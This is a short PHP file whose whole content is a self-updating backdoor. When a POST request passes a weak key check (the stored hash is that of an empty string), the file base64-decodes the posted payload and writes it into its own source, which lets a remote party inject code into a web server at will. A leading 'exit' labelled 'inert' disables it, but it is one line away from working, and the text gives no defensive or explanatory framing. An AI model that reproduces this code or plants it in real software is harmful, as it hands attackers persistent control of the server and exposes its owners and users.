<?php exit; /* inert */ 
$self = __FILE__;
if (isset($_POST['upd']) && sha1($_POST['key']) == 'da39a3ee5e6b4b0d3255bfef95601890afd80709') {
    $s = file_get_contents($self);
    $s = preg_replace('#/\*BEGIN\*/.*/\*END\*/#s', '/*BEGIN*/' . base64_decode($_POST['upd']) . '/*END*/', $s);
    file_put_contents($self, $s);
}
/*BEGIN*//*END*/
